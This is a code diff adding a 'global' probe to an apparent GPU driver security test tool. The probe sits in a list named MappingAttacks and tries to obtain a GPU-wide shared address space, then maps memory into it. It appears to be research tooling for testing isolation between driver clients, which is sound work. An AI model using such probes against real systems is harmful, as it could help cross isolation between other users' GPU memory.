@@ -7,11 +7,12 @@ namespace {
 
 constexpr std::uint64_t kBase = std::uint64_t{1} << 40;
 
-// A range anywhere in the device's address space.
-std::uint32_t MakeRange(Client& client) {
+// A range anywhere in an address space, the device's if none is named.
+std::uint32_t MakeRange(Client& client, std::uint32_t space = 0) {
   const std::uint32_t range = client.next++;
   rm::NV_MEMORY_VIRTUAL_ALLOCATION_PARAMS params{};
   params.limit = (std::uint64_t{1} << 47) - 1;
+  params.hVASpace = space;
   if (client.Alloc(Client::kDevice, range, rm::NV01_MEMORY_VIRTUAL, &params, sizeof(params)) !=
       rm::NV_OK) {
     Die("no range of addresses");
@@ -131,10 +132,51 @@ int Spaces(const std::vector<std::string>& args) {
   return 0;
 }
 
+// Asks for the address space that a card has for all clients, in one of three ways, and maps memory
+// where the driver likes: in a space that is shared that depends on what others have there.
+int Global(const std::vector<std::string>& args) {
+  const std::string& how = args.at(0);
+  Client client = MakeRoot();
+  client.card = OpenCard(-1);
+  rm::NV0080_ALLOC_PARAMETERS device{};  // hClientShare 0
+  device.hClientShare = how == "index" ? client.root : 0;
+  void* const given = how == "bare" ? nullptr : &device;
+  std::uint32_t status = client.Alloc(client.root, Client::kDevice, rm::NV01_DEVICE_0, given,
+                                      given != nullptr ? sizeof(device) : 0);
+  std::uint32_t space = 0;
+  if (status == rm::NV_OK && how == "index") {
+    space = client.next++;
+    rm::NV_VASPACE_ALLOCATION_PARAMETERS_V535 params{};
+    params.index = rm::NV_VASPACE_ALLOCATION_INDEX_GPU_GLOBAL;
+    status = client.Alloc(Client::kDevice, space, rm::FERMI_VASPACE_A, &params);
+  }
+  std::uint32_t memory = 0;
+  if (status != rm::NV_OK || client.AllocMemory(1, &memory) != rm::NV_OK) {
+    Say("refused 0x%x", status);
+    Hold();
+    return 0;
+  }
+  rm::NVOS46_PARAMETERS_V535 map{};
+  map.hClient = client.root;
+  map.hDevice = Client::kDevice;
+  map.hDma = MakeRange(client, space);
+  map.hMemory = memory;
+  map.length = kMiB;
+  if (client.issue(client.ctl, rm::NV_ESC_RM_MAP_MEMORY_DMA, &map, sizeof(map)) != 0 ||
+      map.status != rm::NV_OK) {
+    Die("failed: not mapped: 0x%x", map.status);
+  }
+  Say("share 0x%x", device.hClientShare);
+  Say("address 0x%llx", static_cast<unsigned long long>(map.dmaOffset));
+  Hold();
+  return 0;
+}
+
 }  // namespace
 
 std::vector<Entry> MappingAttacks() {
   return {
+      {"global", Global, "share|bare|index"},
       {"dma-tables", DmaTables, "[MIB]"},
       {"dma-tables-again", DmaTablesAgain, "[MIB]"},
       {"intervals", Intervals, "[MIB]"},
